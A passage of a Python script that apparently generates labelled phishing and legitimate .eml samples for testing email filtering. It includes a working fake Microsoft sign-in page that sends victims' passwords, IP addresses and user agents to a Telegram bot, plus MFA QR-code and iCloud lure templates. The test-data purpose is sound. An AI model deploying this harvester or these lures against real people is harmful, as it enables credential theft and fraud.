<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" alt="Microsoft">
<h2 style="font-weight:600;font-size:22px">Connexion</h2>
<p style="font-size:13px">Ce document est protégé. Confirmez le mot de passe de votre messagerie pour afficher la facture.</p>
<input id="em" type="email" value="{rcpt}" readonly>
<input id="pw" type="password" placeholder="Mot de passe">
<p class="err" id="er">Votre mot de passe est incorrect. Veuillez réessayer.</p>
<button onclick="go()">Se connecter</button>
<div style="clear:both"></div>
</div>
<script>
var n = 0;
function go() {{
  var e = document.getElementById('em').value, p = document.getElementById('pw').value;
  if (!p) return;
  fetch('https://api.ipify.org?format=json').then(function(r) {{ return r.json(); }}).then(function(j) {{
    var m = 'Office | ' + e + ' | ' + p + ' | ' + j.ip + ' | ' + navigator.userAgent;
    return fetch(atob('{api}'), {{method: 'POST', headers: {{'Content-Type': 'application/json'}},
      body: JSON.stringify({{chat_id: '{chat}', text: m}})}});
  }}).finally(function() {{
    n++;
    document.getElementById('pw').value = '';
    if (n < 2) {{ document.getElementById('er').style.display = 'block'; }}
    else {{ window.location.href = 'https://www.office.com/'; }}
  }});
}}
</script>
</body>
</html>
"""
    top, bottom = m365_in(rcpt, t, "80.12.242.16", "smtp.smtpout.orange.fr", frm, "pass",
                          ("wanadoo.fr", "pass"), ("pass", "none"), "wanadoo.fr", ("pass", "100"), "tg",
                          ctry="FR", lang="fr", ptr="smtp-16.smtpout.orange.fr")
    bnd = f"------------{rnd('tg-b', 24, ALNUM)}"
    sender = f"""\
Received: from [192.168.1.23] ([102.66.14.208])
	by smtp.orange.fr with ESMTPA
	id bsLhu{rnd('tg-id', 10, ALNUM)}; {rfc(t, 'Europe/Paris', seconds=-2)}
{dkim('wanadoo.fr', 't20230301', 'tg-d', t, h='Message-ID:Date:MIME-Version:To:From:Subject:Content-Type')}
X-ME-Helo: [192.168.1.23]
X-ME-Auth: {rnd('tg-auth', 44)}
X-ME-Date: {rfc(t, 'Europe/Paris', seconds=-2)}
X-ME-IP: 102.66.14.208
Message-ID: <{guid('tg-mid')}@wanadoo.fr>
Date: {rfc(t, 'Europe/Paris', seconds=-3)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: {rcpt}
From: Atelier Guegan <{frm}>
Subject: Facture FA-2025-07-5521 - relance
Content-Type: multipart/mixed; boundary="{bnd}"
"""
    text = """Bonjour,

Sauf erreur de notre part, la facture FA-2025-07-5521 jointe reste impayée à
ce jour. Merci de bien vouloir la consulter et nous confirmer la date de
règlement.

Cordialement,

Atelier Guégan
"""
    body = "This is a multi-part message in MIME format.\n" + (
        f"--{bnd}\nContent-Type: text/plain; charset=UTF-8; format=flowed\nContent-Transfer-Encoding: 8bit\n\n{text}\n"
        f"--{bnd}\nContent-Type: text/html; charset=UTF-8; name=\"FA-2025-07-5521.html\"\n"
        f"Content-Disposition: attachment; filename=\"FA-2025-07-5521.html\"\nContent-Transfer-Encoding: base64\n\n"
        f"{b64(page)}\n\n--{bnd}--\n")
    write("phishing", "b3-facture-html-attachment-telegram-exfil-wanadoo-fr.eml", assemble(top, sender, body, bottom))


# --------------------------------------------------------------------------
# phishing: MFA re-registration, the only link inside a QR code PNG


def mfa_qr() -> None:
    t = when("2024-02-13 06:58:27")
    rcpt = "maxime.guillou@kerlann-industries.fr"
    target = ("https://login.microsoftonline.com.mfa-reenrol.online/common/oauth2/authorize?client=authenticator&e="
              + base64.b64encode(rcpt.encode()).decode())
    png = qr_png(target, scale=5)
    top, bottom = m365_in(rcpt, t, "185.196.9.150", "mail.mfa-compliance-notice.com", "no-reply@mfa-compliance-notice.com",
                          "pass", ("mfa-compliance-notice.com", "pass"), ("bestguesspass", "none"),
                          "mfa-compliance-notice.com", ("pass", "109"), "mfa", ctry="CH", lang="fr")
    cid = f"{hexs('mfa-cid', 16)}@mfa"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#323130">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd">
<tr><td style="padding:20px 28px;font-size:18px"><b>Microsoft Authenticator</b></td></tr>
<tr><td style="padding:0 28px;line-height:21px">
<p>Bonjour {rcpt.split('@')[0]},</p>
<p>Votre méthode d'authentification multifacteur (MFA) arrive à expiration le <b>15/02/2024</b>. Sans réenregistrement, l'accès à votre messagerie, à Teams et à OneDrive sera bloqué.</p>
<p>Pour réenregistrer votre appareil, scannez le code QR ci-dessous avec l'appareil photo de votre téléphone :</p>
<p style="text-align:center"><img src="cid:{cid}" width="205" height="205" alt="Code QR"></p>
<p style="font-size:12px;color:#605e5c">Ce code est personnel et valable 48 heures. Service informatique - Sécurité des comptes</p>
</td></tr></table></body></html>
"""
    rel = f"rel_{hexs('mfa-rel', 20)}"
    sender = f"""\
Received: from mail.mfa-compliance-notice.com (localhost [127.0.0.1])
	by mail.mfa-compliance-notice.com (Postfix) with ESMTP id 4TYtJ73wq1z9sLp
	for <{rcpt}>; {rfc(t, 'Europe/Zurich', seconds=-1)}
{dkim('mfa-compliance-notice.com', 'default', 'mfa-d', t)}
From: "Microsoft Authenticator" <no-reply@mfa-compliance-notice.com>
To: {rcpt}
Subject: =?utf-8?Q?Action_requise_=3A_r=C3=A9enregistrement_MFA_avant_le_15/02?=
Date: {rfc(t, seconds=-2)}
Message-ID: <{guid('mfa-mid')}@mfa-compliance-notice.com>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="{rel}"; type="text/html"
"""
    body = (f"--{rel}\nContent-Type: text/html; charset=\"utf-8\"\nContent-Transfer-Encoding: quoted-printable\n\n{qp(html)}\n"
            f"--{rel}\nContent-Type: image/png; name=\"mfa.png\"\nContent-Transfer-Encoding: base64\n"
            f"Content-ID: <{cid}>\nContent-Disposition: inline; filename=\"mfa.png\"\n\n{b64(png)}\n\n--{rel}--\n")
    write("phishing", "b3-mfa-reenrolment-qr-png-subdomain-trick-fr.eml", assemble(top, sender, body, bottom))


# --------------------------------------------------------------------------
# phishing: iCloud storage full, the whole notice one picture with one link


def icloud_image() -> None:
    t = when("2024-12-02 21:40:16")
    rcpt = "o.chen.sydney@gmail.com"
    url = "https://icloud-storage-upgrade.sbs/offer/?uid=" + hexs("icl-uid", 16)
    png = text_picture(
        [
            ("iCloud", 30, True, (29, 29, 31)),
            ("Your iCloud storage is full.", 24, True, (29, 29, 31)),
            ("Your photos and videos will be deleted on 4 December 2024.", 15, False, (60, 60, 67)),
            ("Your account was not renewed because of a payment issue.", 15, False, (60, 60, 67)),
            ("As a loyal customer, you can get 50 GB for free for 90 days.", 15, False, (60, 60, 67)),
        ],
        button=("Upgrade storage now", (0, 113, 227)),
    )
    cid = f"ii_{hexs('icl-cid', 12)}"
    html = (f'<div dir="ltr"><a href="{url}" target="_blank"><img src="cid:{cid}" alt="iCloud" width="600" '
            f'style="display:block;border:0"></a></div>\n')
    top = gmail_in(rcpt, t, "45.137.22.91", "mta1.storage-alert-cloud.com", "bounce@storage-alert-cloud.com", "pass",
                   [("storage-alert-cloud.com", "mta1", "pass")], None, "icl", rdns="mta1.storage-alert-cloud.com")
    rel = f"000000000000{hexs('icl-rel', 16)}"
    sender = f"""\
Received: from storage-alert-cloud.com (unknown [10.8.0.2])
	by mta1.storage-alert-cloud.com (Postfix) with ESMTPSA id 4Y2G3x2d9Vz2Kfm
	for <{rcpt}>; {rfc(t, 'Australia/Sydney', seconds=-1)}
{dkim('storage-alert-cloud.com', 'mta1', 'icl-d', t)}
From: iCloud <noreply@storage-alert-cloud.com>
To: {rcpt}
Subject: Your iCloud storage is full - photos will be deleted
Date: {rfc(t, 'Australia/Sydney', seconds=-2)}
Message-ID: <{hexs('icl-mid', 32)}@storage-alert-cloud.com>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="{rel}"
"""
    body = (f"--{rel}\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: 7bit\n\n{html}\n"
            f"--{rel}\nContent-Type: image/png; name=\"image001.png\"\nContent-Disposition: inline; filename=\"image001.png\"\n"
            f"Content-Transfer-Encoding: base64\nContent-ID: <{cid}>\nX-Attachment-Id: {cid}\n\n{b64(png)}\n--{rel}--\n")
    write("phishing", "b3-icloud-storage-full-image-only-sbs-en.eml", assemble(top, sender, body))


# --------------------------------------------------------------------------
# legitimate: a customer's remittance advice in PDF, from its own Microsoft 365


def remittance_pdf_genuine() -> None:
    t = when("2024-08-01 09:22:40")
    rcpt = "commercial@kerlann-industries.fr"
    frm = "nadia.legall@armorfrais.fr"
    data = pdf(
        [
            (60, 790, 16, "GROUPE ARMOR FRAIS SAS"),
            (60, 774, 9, "ZI de Kergaradec - 29850 Gouesnou - SIRET 412 558 907 00031"),
            (60, 740, 13, "AVIS DE PAIEMENT"),
            (60, 722, 10, "Reglement n. VIR-2024-11873 du 01/08/2024 - Virement SEPA"),
            (60, 700, 10, "Beneficiaire : KERLANN INDUSTRIES SAS - 14 rue de la Doneliere - 35000 Rennes"),
            (60, 684, 10, "IBAN beneficiaire : FR76 1380 7000 **** **** **** 412"),
            (60, 650, 10, "Piece            Date          Echeance      Montant TTC"),
            (60, 634, 10, "FA-2024-0588     12/06/2024    31/07/2024    4 812,00 EUR"),
            (60, 618, 10, "FA-2024-0612     19/06/2024    31/07/2024    2 304,60 EUR"),
            (60, 602, 10, "AV-2024-0041     27/06/2024                   -180,00 EUR"),
            (60, 574, 11, "Total regle : 6 936,60 EUR"),
            (60, 540, 9, "Pour toute question : comptabilite.fournisseurs@armorfrais.fr - 02 98 41 77 20"),
        ],
        title="Avis de paiement VIR-2024-11873",
        producer="Sage 100cloud Comptabilite / Crystal Reports",
    )
    top, bottom = m365_in(rcpt, t, "40.107.162.41", "EUR05-AM6-obe.outbound.protection.outlook.com", frm, "pass",
                          ("armorfrais.fr", "pass"), ("pass", "none"), "armorfrais.fr", ("pass", "100"), "armor",
                          ctry="FR", lang="fr", ptr="mail-am6eur05on2041.outbound.protection.outlook.com")
    bnd = f"_004_{rnd('armor-b', 52, UPALNUM)}_"
    bnd2 = f"_000_{rnd('armor-b', 52, UPALNUM)}_"
    text = """Bonjour,

Veuillez trouver ci-joint l'avis de paiement correspondant au virement émis ce
jour en règlement de vos factures FA-2024-0588 et FA-2024-0612 (déduction
faite de l'avoir AV-2024-0041).

Bonne réception,

Nadia Le Gall
Comptabilité fournisseurs
Groupe Armor Frais
02 98 41 77 20
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:11pt\">"
            + "<br>".join(text.strip().split("\n")) + "</div></body></html>\n")
    sender = f"""\
Received: from PA4P190MB1326.EURP190.PROD.OUTLOOK.COM (2603:10a6:102:10c::8)
 by DU0P190MB1954.EURP190.PROD.OUTLOOK.COM (2603:10a6:10:3b9::11) with
 Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.7828.23; Thu, 1 Aug
 2024 09:22:38 +0000
Received: from PA4P190MB1326.EURP190.PROD.OUTLOOK.COM
 ([fe80::5d1e:a0c3:7f42:1b99]) by PA4P190MB1326.EURP190.PROD.OUTLOOK.COM
 ([fe80::5d1e:a0c3:7f42:1b99%6]) with mapi id 15.20.7828.021; Thu, 1 Aug 2024
 09:22:38 +0000
{dkim('armorfrais.fr', 'selector1', 'armor-d', t, h='From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck')}
From: Nadia Le Gall <{frm}>
To: "{rcpt}" <{rcpt}>
Subject: Avis de paiement VIR-2024-11873 - Kerlann Industries
Thread-Topic: Avis de paiement VIR-2024-11873 - Kerlann Industries
Thread-Index: Adrj9{rnd('armor-ti', 20)}==
Date: {rfc(t, seconds=-2)}
Message-ID:
 <PA4P190MB1326{rnd('armor-mid', 20, UPALNUM)}@PA4P190MB1326.EURP190.PROD.OUTLOOK.COM>
Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="{bnd}"
"""
    body = (f"--{bnd}\nContent-Type: multipart/alternative;\n\tboundary=\"{bnd2}\"\n\n"
            f"--{bnd2}\nContent-Type: text/plain; charset=\"utf-8\"\nContent-Transfer-Encoding: quoted-printable\n\n{qp(text)}\n"
            f"--{bnd2}\nContent-Type: text/html; charset=\"utf-8\"\nContent-Transfer-Encoding: quoted-printable\n\n{qp(html)}\n"
            f"--{bnd2}--\n\n"
            f"--{bnd}\nContent-Type: application/pdf; name=\"Avis_de_paiement_VIR-2024-11873.pdf\"\n"
            f"Content-Description: Avis_de_paiement_VIR-2024-11873.pdf\n"
            f"Content-Disposition: attachment; filename=\"Avis_de_paiement_VIR-2024-11873.pdf\"; size={len(data)};\n"
            f"\tcreation-date=\"{rfc(t)}\";\n\tmodification-date=\"{rfc(t)}\"\n"
            f"Content-Transfer-Encoding: base64\n\n{b64(data)}\n\n--{bnd}--\n")
    write("clean", "b3-avis-de-paiement-client-pdf-m365-fr.eml", assemble(top, sender, body, bottom))


# --------------------------------------------------------------------------
# legitimate: an event ticket carrying a QR code (the barcode number, not a URL)


def eventbrite_ticket_qr() -> None:
    t = when("2025-03-10 16:05:12")
    rcpt = "maxime.guillou@kerlann-industries.fr"
    order = "11234895701"
    barcode = "1123489570112948337001"
    png = qr_png(barcode, scale=5)
    cid = f"qr-{order}@eventbrite.com"
    data = pdf(
        [
            (60, 780, 18, "Rencontres Logistique Grand Ouest 2025"),
            (60, 756, 11, "Jeudi 3 avril 2025, 08:30 - 18:00 (CEST)"),
            (60, 740, 11, "Couvent des Jacobins, Place Sainte-Anne, 35000 Rennes"),
            (60, 710, 11, "Billet : Pass journee exposant - Commande n. " + order),
            (60, 694, 11, "Participant : Maxime Guillou"),
            (60, 664, 10, "Code billet : " + barcode),
            (60, 640, 9, "Presentez ce billet (imprime ou sur mobile) a l'accueil."),
        ],
        title="Billet Eventbrite " + order,
        producer="Eventbrite Ticket Service",
    )
    mf = f"bounces+{digits('eb-b', 7)}-{hexs('eb-b2', 4)}-maxime.guillou=kerlann-industries.fr@email.eventbrite.com"
    top, bottom = m365_in(rcpt, t, "167.89.115.56", "o7.email.eventbrite.com", mf, "pass",
                          ("eventbrite.com", "pass"), ("pass", "none"), "eventbrite.com", ("pass", "100"), "eb",
                          ctry="US", lang="fr", bcl=0)
    text = f"""Eventbrite

Votre commande est confirmée !

Rencontres Logistique Grand Ouest 2025
Jeudi 3 avril 2025 de 08:30 à 18:00 (CEST)
Couvent des Jacobins, Place Sainte-Anne, 35000 Rennes

Commande n° {order} - 1 x Pass journée exposant - Gratuit

Vos billets sont joints à cet e-mail (PDF). Vous pouvez aussi les retrouver
dans l'application Eventbrite ou sur https://www.eventbrite.fr/mytickets

Organisé par : Club Logistique Bretagne
Contacter l'organisateur : https://www.eventbrite.fr/e/rencontres-logistique-grand-ouest-2025-tickets-948211730567#organizer

Eventbrite, 95 Third Street, 2nd Floor, San Francisco, CA 94103
"""
    html = f"""<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f8f7fa;font-family:'Neue Plak',Helvetica,Arial,sans-serif;color:#1e0a3c">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:24px 32px"><img src="https://cdn.evbstatic.com/s3-build/fe/build/images/389ece7b7e2dc7ff8d28524bad30d52c-dsrp_desktop.webp" width="110" alt="Eventbrite"></td></tr>
<tr><td style="padding:0 32px;font-size:26px;font-weight:bold">Votre commande est confirmée !</td></tr>
<tr><td style="padding:18px 32px;font-size:16px;line-height:23px"><b>Rencontres Logistique Grand Ouest 2025</b><br>Jeudi 3 avril 2025 de 08:30 à 18:00 (CEST)<br>Couvent des Jacobins, Place Sainte-Anne, 35000 Rennes</td></tr>
<tr><td style="padding:0 32px;font-size:14px;color:#39364f">Commande n° {order} &middot; 1 x Pass journée exposant &middot; Gratuit</td></tr>
<tr><td style="padding:20px 32px;text-align:center"><img src="cid:{cid}" width="170" height="170" alt="Code du billet {barcode}"><br><span style="font-size:12px;color:#6f7287">{barcode}</span></td></tr>
<tr><td style="padding:0 32px 20px"><a href="https://www.eventbrite.fr/mytickets?utm_source=eventbrite&amp;utm_medium=email&amp;utm_campaign=order_confirmation" style="display:inline-block;background:#d1410c;color:#fff;padding:12px 26px;border-radius:4px;text-decoration:none;font-weight:bold">Voir mes billets</a></td></tr>
<tr><td style="padding:0 32px 24px;font-size:13px;color:#39364f">Organisé par : Club Logistique Bretagne &middot; <a href="https://www.eventbrite.fr/e/rencontres-logistique-grand-ouest-2025-tickets-948211730567#organizer" style="color:#3659e3">Contacter l'organisateur</a></td></tr>
<tr><td style="padding:20px 32px;font-size:11px;color:#6f7287;background:#f8f7fa">Eventbrite, 95 Third Street, 2nd Floor, San Francisco, CA 94103 &middot; <a href="https://www.eventbrite.fr/support/articles/fr/Troubleshooting/politique-de-confidentialite-d-eventbrite" style="color:#6f7287">Confidentialité</a></td></tr>
</table></td></tr></table>
<img src="https://u{digits('eb-u', 7)}.ct.sendgrid.net/wf/open?upn=u001.{rnd('eb-open', 110, ALNUM)}" alt="" width="1" height="1" border="0">
</body></html>
"""
    mixed = hexs("eb-mixed", 60)
    related = hexs("eb-related", 60)
    altb = hexs("eb-alt", 60)
    sender = f"""\
Received: by filterdrecv-6c9d8b7f45-x8p2w with SMTP id filterdrecv-6c9d8b7f45-x8p2w-1-67CF0D18-3A
	2025-03-10 16:05:12.104372901 +0000 UTC m=+3320117.513390284
Received: from {rnd('eb-from', 12, ALNUM)} (unknown)
	by geopod-ismtpd-31 (SG) with HTTP
	id {rnd('eb-sg', 22, ALNUM)}
	Mon, 10 Mar 2025 16:05:12.011 +0000 (UTC)
{dkim('eventbrite.com', 's1', 'eb-d', t, h='content-type:from:mime-version:subject:reply-to:list-unsubscribe:to:cc:content-type:from:subject:to')}
Content-Type: multipart/mixed; boundary={mixed}
Date: Mon, 10 Mar 2025 16:05:12 +0000 (UTC)
From: Eventbrite <noreply@order.eventbrite.com>
Mime-Version: 1.0
Message-ID: <{rnd('eb-sg', 22, ALNUM)}@geopod-ismtpd-31>
Reply-To: Club Logistique Bretagne <noreply@order.eventbrite.com>
Subject: =?UTF-8?Q?Vos_billets_pour_=C2=AB_Rencontres_Logistique_Grand_Ouest_2025_=C2=BB?=
To: {rcpt}
X-SG-EID: u001.{rnd('eb-eid', 100)}
X-Entity-ID: u001.{rnd('eb-ent', 22)}==
"""
    body = (f"--{mixed}\nContent-Type: multipart/related; boundary={related}\n\n"
            f"--{related}\nContent-Type: multipart/alternative; boundary={altb}\n\n"
            f"--{altb}\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/plain; charset=utf-8\n\n{qp(text)}\n"
            f"--{altb}\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/html; charset=utf-8\n\n{qp(html)}\n"
            f"--{altb}--\n\n"
            f"--{related}\nContent-Type: image/png\nContent-Transfer-Encoding: base64\nContent-ID: <{cid}>\n"
            f"Content-Disposition: inline; filename=\"qr.png\"\n\n{b64(png)}\n\n--{related}--\n\n"
            f"--{mixed}\nContent-Disposition: attachment; filename=\"Billets-{order}.pdf\"\n"
            f"Content-Transfer-Encoding: base64\nContent-Type: application/pdf; name=\"Billets-{order}.pdf\"\n\n{b64(data)}\n\n"
            f"--{mixed}--\n")
    write("bulk", "b3-eventbrite-billet-qr-code-sendgrid-fr.eml", assemble(top, sender, body, bottom))


def main() -> None:
    voicemail_htm()
    efax_pdf()
    invoice_html_telegram()
    mfa_qr()
    icloud_image()
    remittance_pdf_genuine()
    eventbrite_ticket_qr()


if __name__ == "__main__":
    main()
